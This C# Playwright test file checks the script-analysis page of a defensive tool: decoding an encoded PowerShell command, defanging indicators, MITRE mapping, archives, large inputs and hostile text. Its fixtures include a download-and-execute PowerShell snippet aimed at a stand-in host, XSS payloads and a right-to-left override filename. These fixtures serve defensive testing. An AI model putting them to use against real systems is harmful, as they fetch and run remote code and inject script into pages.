using System.IO.Compression;
using System.Text;
using Microsoft.Playwright;
using Redoubt.Browser.Tests.Hosting;
using static Microsoft.Playwright.Assertions;

namespace Redoubt.Browser.Tests;

/// <summary>What a script would do, on the page that is for it.</summary>
public sealed class ScriptPageTests(BrowserLab lab) : BrowserTest(lab)
{
    private const string Inner = """
        $place = 'http://updates' + '.example.test/'
        $file = "$env:TEMP\notes.txt"
        (New-Object Net.WebClient).DownloadFile(($place + 'notes.txt'), $file)
        Start-Process $file
        """;

    [Fact]
    public async Task EncodedCommandIsCleared()
    {
        var scripts = await OpenScriptsAsync();
        await scripts.AnalyzeAsync(ScriptsPage.Encoded(Inner));
        var page = scripts.Page;
        await Expect(page.GetByRole(AriaRole.Region, new() { Name = "Verdict" })).ToContainTextAsync("Score");
        await Expect(scripts.Layers).Not.ToHaveCountAsync(1);
        await Expect(scripts.Layers.Nth(1)).ToContainTextAsync("EncodedCommand");
        await Expect(scripts.Steps.First).ToBeVisibleAsync();
        await Expect(scripts.Indicators).ToContainTextAsync("hxxp://updates[.]example[.]test/notes.txt");
        await Expect(scripts.Indicators.GetByRole(AriaRole.Link, new() { Name = "Go hunt for http://updates.example.test/notes.txt" })).ToBeVisibleAsync();

        // The cited line is shown and marked, and what was worked out in it stands beside it.
        await page.GetByRole(AriaRole.Button, new() { Name = "Show layer 2, line 3" }).First.ClickAsync();
        var marked = scripts.Original(2).Locator("[data-marked]");
        await Expect(marked).ToHaveCountAsync(1);
        await Expect(marked).ToHaveAttributeAsync("data-line", "3");
        await Expect(marked).ToContainTextAsync("DownloadFile(($place + 'notes.txt'), $file)");
        await Expect(page.GetByRole(AriaRole.Group, new() { Name = "cleared text of layer 2" }).Locator("[data-marked]").First).ToContainTextAsync("http://updates.example.test/notes.txt");
        await Expect(page.GetByRole(AriaRole.Status).Filter(new() { HasText = "layer 2, line 3 is marked" })).ToHaveCountAsync(1);
        await Layout.ShouldBeWholeAsync(page);
        await Accessibility.ShouldBeCleanInBothThemesAsync(page);
    }

    [Fact]
    public async Task CodeAndTechniquesAreShownOnDemand()
    {
        var scripts = await OpenScriptsAsync();
        await scripts.AnalyzeAsync(ScriptsPage.Encoded(Inner));
        var page = scripts.Page;
        await page.GetByRole(AriaRole.Button, new() { Name = "Hide code" }).ClickAsync();
        await Expect(scripts.Original(1)).ToHaveCountAsync(0);
        await page.GetByRole(AriaRole.Button, new() { Name = "Hide MITRE techniques" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.List, new() { Name = "MITRE ATT&CK techniques" })).ToHaveCountAsync(0);
        await page.GetByRole(AriaRole.Button, new() { Name = "Show MITRE techniques" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Table, new() { Name = "MITRE ATT&CK techniques" })).ToContainTextAsync("T1105");
        await page.GetByRole(AriaRole.Button, new() { Name = "Show layer 1, line 1" }).First.ClickAsync();
        await Expect(scripts.Original(1).Locator("[data-marked]")).ToHaveCountAsync(1);
    }

    [Fact]
    public async Task ExplanationIsCopiedWithoutAddressesThatOpen()
    {
        var scripts = await OpenScriptsAsync();
        var page = scripts.Page;
        await page.Context.GrantPermissionsAsync(["clipboard-read", "clipboard-write"]);
        await scripts.AnalyzeAsync(ScriptsPage.Encoded(Inner));
        await page.GetByRole(AriaRole.Button, new() { Name = "Copy as Markdown" }).ClickAsync();
        await Expect(page.GetByText("Copied as Markdown, defanged").First).ToBeVisibleAsync();
        var text = await page.EvaluateAsync<string>("() => navigator.clipboard.readText()");
        text.ShouldContain("# Script analysis");
        text.ShouldContain("**Verdict:");
        text.ShouldContain("hxxp://");
        text.ShouldNotContain("http://");

        await page.GetByRole(AriaRole.Button, new() { Name = "Copy as it is: hxxp://updates[.]example[.]test/notes.txt" }).ClickAsync();
        await page.WaitForFunctionAsync("async () => await navigator.clipboard.readText() === 'http://updates.example.test/notes.txt'");
    }

    [Fact]
    public async Task ExamplesAreThereForAnEmptyPage()
    {
        var scripts = await OpenScriptsAsync();
        foreach (var name in (string[])["PowerShell, encoded", "Batch, cut into variables", "Shell, in base64"])
        {
            await scripts.Page.ReloadAsync();
            await scripts.Page.GetByRole(AriaRole.Button, new() { Name = name }).ClickAsync();
            await scripts.Page.GetByRole(AriaRole.Button, new() { Name = "Analyze", Exact = true }).ClickAsync();
            await scripts.ShownAsync();
            await Expect(scripts.Steps.First).ToBeVisibleAsync();
            await Expect(scripts.Indicators).ToContainTextAsync("example[.]test");
        }
    }

    [Fact]
    public async Task ResultsStayForTheSessionAlone()
    {
        var scripts = await OpenScriptsAsync();
        var page = scripts.Page;
        await scripts.AnalyzeAsync("cmd.exe /c echo one");
        await scripts.AnalyzeAsync("cmd.exe /c echo two");
        await page.GetByRole(AriaRole.Link, new() { Name = "Incidents" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Script analysis" })).ToHaveCountAsync(0);
        await GoAsync(page, "s");
        await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "cmd.exe /c echo two", Level = 2 })).ToBeVisibleAsync();
        await Expect(scripts.Input).ToHaveValueAsync("cmd.exe /c echo two");

        await page.GetByRole(AriaRole.Button, new() { Name = "This session (2)" }).ClickAsync();
        await page.GetByRole(AriaRole.Menuitem, new() { Name = "cmd.exe /c echo one" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "cmd.exe /c echo one", Level = 2 })).ToBeVisibleAsync();
        await page.ReloadAsync();
        await Expect(scripts.Input).ToHaveValueAsync("");
        await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "What it does" })).ToHaveCountAsync(0);
    }

    [Fact]
    public async Task LongWorkIsCancelled()
    {
        var scripts = await OpenScriptsAsync();
        var page = scripts.Page;
        var asked = new TaskCompletionSource();
        await page.RouteAsync("**/api/scripts/analyze", _ => { asked.TrySetResult(); return Task.CompletedTask; });
        await scripts.Input.FillAsync("cmd.exe /c echo one");
        await scripts.Input.PressAsync("Control+Enter");
        await asked.Task.WaitAsync(TimeSpan.FromSeconds(60), TestContext.Current.CancellationToken);
        await Expect(page.GetByRole(AriaRole.Progressbar, new() { Name = "Analysis" })).ToBeVisibleAsync();
        await Accessibility.ShouldBeCleanAsync(page);
        await page.GetByRole(AriaRole.Button, new() { Name = "Cancel" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Progressbar)).ToHaveCountAsync(0);
        await page.UnrouteAllAsync();
        await scripts.Input.PressAsync("Control+Enter");
        await scripts.ShownAsync();
    }

    [Fact]
    public async Task FileIsDropped()
    {
        var scripts = await OpenScriptsAsync();
        await scripts.DropAsync("notes.ps1", Encoding.UTF8.GetBytes(Inner));
        await scripts.ShownAsync();
        await Expect(scripts.Page.GetByRole(AriaRole.Heading, new() { Name = "notes.ps1", Level = 2 })).ToBeVisibleAsync();
        await Expect(scripts.Indicators).ToContainTextAsync("hxxp://updates[.]example[.]test/notes.txt");
        await Layout.ShouldBeWholeAsync(scripts.Page);
        await Accessibility.ShouldBeCleanInBothThemesAsync(scripts.Page);
    }

    [Fact]
    public async Task ArchiveIsOpenedPieceByPiece()
    {
        var scripts = await OpenScriptsAsync();
        var page = scripts.Page;
        await scripts.DropAsync("parcel.zip", Zip(("folder/notes.ps1", Inner), ("read\u202eme.txt", "nothing to see")));
        await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "What it is" })).ToBeVisibleAsync();
        await Expect(page.GetByRole(AriaRole.Region, new() { Name = "File", Exact = true })).ToContainTextAsync("SHA-256");
        await page.GetByRole(AriaRole.Button, new() { Name = "Show details" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Button, new() { Name = "Hide details" })).ToBeVisibleAsync();
        await Accessibility.ShouldBeCleanInBothThemesAsync(page);

        var inside = page.GetByRole(AriaRole.List, new() { Name = "Inside the file" });
        await Expect(inside).ToContainTextAsync("readU+202Eme.txt");
        await inside.GetByRole(AriaRole.Button).Filter(new() { HasText = "Script · PowerShell" }).ClickAsync();
        await scripts.ShownAsync();
        await Expect(scripts.Original(1)).ToContainTextAsync("DownloadFile");
        await Accessibility.ShouldBeCleanInBothThemesAsync(page);
    }

    [Fact]
    public async Task RubbishIsTakenForWhatItIs()
    {
        var scripts = await OpenScriptsAsync();
        await scripts.AnalyzeAsync("]]}} \u0001\u0002 %%% \"'`' ((( $( @{ |>| \ufffd 8=8;;;; <<<EOF \\x \t\t && || ");
        await Expect(scripts.Page.GetByRole(AriaRole.Region, new() { Name = "Verdict" })).Not.ToContainTextAsync("Malicious");
        await Expect(scripts.Original(1)).ToContainTextAsync("␁␂");
        await Accessibility.ShouldBeCleanAsync(scripts.Page);

        await scripts.DropAsync("noise.bin", [.. Enumerable.Range(0, 5000).Select(i => (byte)(i * 7919 >> 3))]);
        await Expect(scripts.Page.GetByRole(AriaRole.Heading, new() { Name = "noise.bin", Level = 2 })).ToBeVisibleAsync();
        await Accessibility.ShouldBeCleanAsync(scripts.Page);
    }

    [Fact]
    public async Task TooLargeAFileIsRefusedInWords()
    {
        var scripts = await OpenScriptsAsync();
        var large = Path.Combine(Directory.CreateTempSubdirectory("redoubt-browser-").FullName, "large.iso");
        await using (var file = File.Create(large))
            file.SetLength(50L * 1024 * 1024 + 1);
        var chooser = await scripts.Page.RunAndWaitForFileChooserAsync(() => scripts.Page.GetByRole(AriaRole.Button, new() { Name = "Choose a file" }).ClickAsync());
        await chooser.SetFilesAsync(large);
        await Expect(scripts.Page.GetByRole(AriaRole.Alert)).ToContainTextAsync("a file may have 50 MB");
        await Accessibility.ShouldBeCleanAsync(scripts.Page);
        File.Delete(large);
    }

    [Fact]
    public async Task HugeTextIsRead()
    {
        var scripts = await OpenScriptsAsync();
        var page = scripts.Page;
        await scripts.PasteAsync(string.Concat(Enumerable.Repeat("echo abcdefghijklmnopqrstuvwxyz\n", 80_000)) + new string('A', 500_000));
        await Expect(page.GetByText("A text of 3,060,000 characters is ready")).ToBeVisibleAsync();
        await page.GetByRole(AriaRole.Button, new() { Name = "Analyze", Exact = true }).ClickAsync();
        await scripts.ShownAsync();
        await Expect(page.GetByRole(AriaRole.List, new() { Name = "Not analyzed in full" })).ToContainTextAsync("2,097,152");
        // Only what is on screen is drawn.
        await Expect(scripts.Original(1).Locator("[data-line]").Nth(4)).ToBeAttachedAsync();
        (await scripts.Original(1).Locator("[data-line]").CountAsync()).ShouldBeInRange(5, 200);
        await scripts.Original(1).EvaluateAsync("pane => pane.scrollTo(0, pane.scrollHeight)");
        await Expect(scripts.Original(1).Locator("[data-line='65536']").First).ToBeVisibleAsync();
        await Accessibility.ShouldBeCleanAsync(page);

        // One line of two million letters.
        await page.GetByRole(AriaRole.Button, new() { Name = "Take it away" }).ClickAsync();
        await scripts.PasteAsync(new string('B', 2_000_000));
        await page.GetByRole(AriaRole.Button, new() { Name = "Analyze", Exact = true }).ClickAsync();
        await Expect(scripts.Original(1)).ToContainTextAsync("BBBB", new() { Timeout = 90_000 });
        await Layout.ShouldBeWholeAsync(page);
    }

    [Fact]
    public async Task HostileTextStaysText()
    {
        var scripts = await OpenScriptsAsync();
        var page = scripts.Page;
        const string Markup = "<img src=x data-injected onerror=\"window.injected=1;alert(1)\"><script data-injected>window.injected=1</script>";
        var script = $"""
            Write-Output '{Markup}'
            Start-Process '\u202Egnp.exe' "[x](javascript:window.injected=1)"
            Invoke-WebRequest 'http://files.example.test/{Markup.Replace('"', '_')}' -OutFile "C:\Temp\<b data-injected>x.exe"
            """.Replace("\\u202E", "\u202e", StringComparison.Ordinal);
        await scripts.Input.FillAsync(script);
        await Expect(page.GetByText("1 character that cannot be seen")).ToBeVisibleAsync();
        await scripts.AnalyzeAsync(script);
        await Expect(scripts.Original(1)).ToContainTextAsync("<img src=x data-injected");
        await Expect(scripts.Original(1)).ToContainTextAsync("U+202Egnp.exe");
        await HostileTests.ShouldBeTextAsync(page);
        await Accessibility.ShouldBeCleanInBothThemesAsync(page);

        await scripts.DropAsync("<img src=x data-injected onerror=window.injected=1>\u202egnp.ps1", Encoding.UTF8.GetBytes(script));
        await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 2 }).Filter(new() { HasText = "<img src=x data-injected" })).ToBeVisibleAsync();
        await HostileTests.ShouldBeTextAsync(page);
        await Accessibility.ShouldBeCleanAsync(page);
    }

    private async Task<ScriptsPage> OpenScriptsAsync() => await ScriptsPage.OfAsync(await OpenAsync(await Lab.Empty, "/scripts"));

    private static byte[] Zip(params (string Name, string Text)[] members)
    {
        using var bytes = new MemoryStream();
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in members)
            {
                using var member = archive.CreateEntry(name).Open();
                member.Write(Encoding.UTF8.GetBytes(text));
            }
        }

        return bytes.ToArray();
    }
}
